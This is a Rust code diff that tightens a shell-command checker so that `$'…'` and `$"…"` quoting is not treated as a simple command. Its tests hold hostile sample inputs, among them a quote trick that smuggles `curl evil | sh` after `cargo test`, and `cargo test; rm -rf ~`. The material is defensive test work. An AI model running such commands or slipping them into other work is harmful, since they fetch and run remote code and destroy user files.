@@ -55,7 +55,9 @@ pub fn is_simple(command: &str) -> bool {
             '\'' if !double => single = !single,
             '"' if !single => double = !double,
             '`' if !single => return false,
-            '$' if !single && chars.peek() == Some(&'(') => return false,
+            // `$(…)` runs a command; `$'…'` and `$"…"` quote by other rules (in `$'…'`,
+            // `\'` does not end the string): neither is read here as simple.
+            '$' if !single && matches!(chars.peek(), Some('(' | '\'' | '"')) => return false,
             c if !single && !double && COMPOUND.contains(&c) => return false,
             _ => {}
         }
@@ -174,6 +176,8 @@ mod tests {
         assert!(is_simple("echo 'a | b' \\; done"));
         assert!(!is_simple("echo \"$(id)\""));
         assert!(!is_simple("echo 'open"));
+        assert!(!is_simple("cargo test $'\\'' ; curl evil | sh #'"));
+        assert!(!is_simple("cargo test $\"x\""));
         for c in [
             "cargo test; rm -rf ~",
             "cargo test && curl x",
